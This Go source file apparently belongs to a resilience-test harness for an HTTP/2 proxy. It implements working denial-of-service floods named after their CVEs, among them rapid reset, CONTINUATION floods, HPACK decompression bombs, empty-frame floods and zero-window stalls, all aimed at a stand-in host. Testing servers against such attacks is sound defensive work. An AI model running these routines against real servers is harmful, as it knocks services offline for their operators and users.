package judges

import (
	"bytes"
	"context"
	"crypto/tls"
	"encoding/binary"
	"io"
	"net"
	"sync/atomic"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// enemy is an HTTP/2 connection of an attacker. What it writes is collected and
// sent with flush.
type enemy struct {
	*http2.Framer
	w     *weapon
	tc    *tls.Conn
	nc    net.Conn
	out   bytes.Buffer
	id    uint32 // of the last stream
	ended atomic.Bool
	read  chan struct{}
	stop  func() bool
}

// enemy connects; nil when that fails.
func (w *weapon) enemy(first ...http2.Setting) *enemy {
	tc, nc := w.tls("one.example", "h2")
	if tc == nil {
		return nil
	}
	e := &enemy{w: w, tc: tc, nc: nc, read: make(chan struct{})}
	e.Framer = http2.NewFramer(&e.out, nil)
	e.AllowIllegalWrites = true
	e.out.WriteString(http2.ClientPreface)
	_ = e.WriteSettings(first...)
	_ = e.WriteSettingsAck()
	e.stop = context.AfterFunc(w.ctx, func() { nc.Close() })
	go func() {
		defer close(e.read)
		_, _ = io.Copy(io.Discard, tc)
		e.ended.Store(true)
	}()
	return e
}

// flush sends what was collected; false when the connection is over.
func (e *enemy) flush() bool {
	_ = e.nc.SetWriteDeadline(time.Now().Add(3 * time.Second))
	_, err := e.tc.Write(e.out.Bytes())
	e.out.Reset()
	return err == nil && !e.ended.Load()
}

func (e *enemy) close() {
	e.stop()
	e.nc.Close()
	<-e.read
	e.w.close(e.nc)
}

// next returns the id of a new stream.
func (e *enemy) next() uint32 {
	if e.id == 0 {
		e.id = 1
		return 1
	}
	e.id += 2
	return e.id
}

// request is a header block without a dynamic table: GET https://one.example/.
var request = block(
	":method", "GET", ":scheme", "https", ":authority", "one.example", ":path", "/")

func block(fields ...string) []byte {
	var b bytes.Buffer
	enc := hpack.NewEncoder(&b)
	enc.SetMaxDynamicTableSize(0)
	for i := 0; i < len(fields); i += 2 {
		_ = enc.WriteField(hpack.HeaderField{Name: fields[i], Value: fields[i+1]})
	}
	return b.Bytes()[1:] // without the change of the table's size
}

// open asks for something and says whether there will be a body.
func (e *enemy) open(path string, end bool) uint32 {
	id, b := e.next(), request
	if path != "/" {
		b = block(":method", "GET", ":scheme", "https", ":authority", "one.example", ":path", path)
	}
	_ = e.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: b, EndHeaders: true, EndStream: end})
	return id
}

// batches keeps a connection, writes batches of n things to it at a rate of
// things a second, and connects again when it was ended.
func (w *weapon) batches(rate, n int, first []http2.Setting, do func(e *enemy)) {
	var e *enemy
	w.each(1, max(rate/n, 1), func() {
		if e == nil {
			if e = w.enemy(first...); e == nil {
				return
			}
		}
		for range n {
			do(e)
		}
		if e.flush() {
			w.hit(n)
			return
		}
		e.close()
		e = nil
	})
	if e != nil {
		e.close()
	}
}

// frames writes frames of one kind.
func (w *weapon) frames(rate int, do func(e *enemy)) { w.batches(rate, 200, nil, do) }

func ping(e *enemy) { _ = e.WritePing(false, [8]byte{1}) }
func settings(e *enemy) {
	_ = e.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: 65535})
}

// rapidReset opens streams and gives them up at once (CVE-2023-44487).
func rapidReset(w *weapon) {
	w.batches(1500, 20, nil, func(e *enemy) {
		_ = e.WriteRSTStream(e.open("/", true), http2.ErrCodeCancel)
	})
}

// provokedResets make the server give up streams (CVE-2025-8671).
func provokedResets(w *weapon) {
	kinds := []func(e *enemy, id uint32){
		func(e *enemy, id uint32) { _ = e.WriteWindowUpdate(id, 0) },
		func(e *enemy, id uint32) { _ = e.WriteWindowUpdate(id, 1<<31-1) },
		func(e *enemy, id uint32) { _ = e.WriteData(id, true, []byte("late")) },
		func(e *enemy, id uint32) { _ = e.WriteRawFrame(http2.FramePriority, 0, id, []byte{0}) },
		func(e *enemy, id uint32) {
			_ = e.WritePriority(id, http2.PriorityParam{StreamDep: id})
		},
	}
	w.batches(1500, 20, nil, func(e *enemy) {
		// Each connection asks in one way.
		kinds[int(w.turn.Add(1)/20)%len(kinds)](e, e.open("/", true))
	})
}

// continuations are header blocks without an end (CVE-2023-45288).
func continuations(w *weapon) {
	junk := bytes.Repeat(block("x-a", "0123456789012345678901234567890123456789"), 20)
	w.batches(1000, 20, nil, func(e *enemy) {
		if e.id == 0 {
			_ = e.WriteHeaders(http2.HeadersFrameParam{StreamID: e.next(), BlockFragment: request})
		}
		_ = e.WriteContinuation(e.id, false, junk)
	})
}

// emptyFrames carry nothing (CVE-2019-9518): DATA, HEADERS, CONTINUATION.
func emptyFrames(w *weapon) {
	w.batches(20000, 200, nil, func(e *enemy) {
		if e.id == 0 {
			e.open("/", false)
		}
		_ = e.WriteData(e.id, false, nil)
	})
}

// http2Bomb makes small requests for answers that it then takes byte by byte
// (CVE-2026-49975): a field that is a kilobyte in the table and a byte on the
// wire, many times, and a window of nothing.
func http2Bomb(w *weapon) {
	zero := []http2.Setting{{ID: http2.SettingInitialWindowSize, Val: 0}}
	fill, refer := bombBlocks(1000, 60)
	w.batches(200, 5, zero, func(e *enemy) {
		if e.id == 0 {
			_ = e.WriteHeaders(http2.HeadersFrameParam{StreamID: e.next(), BlockFragment: fill, EndHeaders: true, EndStream: true})
			return
		}
		_ = e.WriteHeaders(http2.HeadersFrameParam{StreamID: e.next(), BlockFragment: refer, EndHeaders: true, EndStream: true})
		for id := max(e.id, 40) - 39; id < e.id; id += 2 {
			_ = e.WriteWindowUpdate(id|1, 1)
		}
	})
}

// bombBlocks returns two requests: one that puts a cookie of some size into the
// table, and one that refers to it so many times.
func bombBlocks(size, times int) (fill, refer []byte) {
	// Fairlead itself answers: who stands behind it is not to be measured.
	start := block(":method", "GET", ":scheme", "https", ":authority", "one.example", ":path", "/own")
	fill = bytes.Clone(start)
	fill = append(fill, 0x40|32) // literal with indexing, the name cookie of the static table
	fill = append(fill, 0x7f)
	fill = binary.AppendUvarint(fill, uint64(size-127))
	fill = append(fill, bytes.Repeat([]byte("a"), size)...)
	refer = append(start, bytes.Repeat([]byte{0x80 | 62}, times)...)
	return fill, refer
}

// hpackBombs are requests of 16 KB that unpack to 50 MB.
func hpackBombs(w *weapon) {
	fill, refer := bombBlocks(3500, 15000)
	w.batches(30, 2, nil, func(e *enemy) {
		b := refer
		if e.id == 0 {
			b = fill
		}
		_ = e.WriteHeaders(http2.HeadersFrameParam{StreamID: e.next(), BlockFragment: b, EndHeaders: true, EndStream: true})
	})
}

// zeroWindows ask for megabytes and take none of it (CVE-2019-9517).
func zeroWindows(w *weapon) {
	zero := []http2.Setting{{ID: http2.SettingInitialWindowSize, Val: 0}}
	w.batches(300, 10, zero, func(e *enemy) { e.open("/big", true) })
}
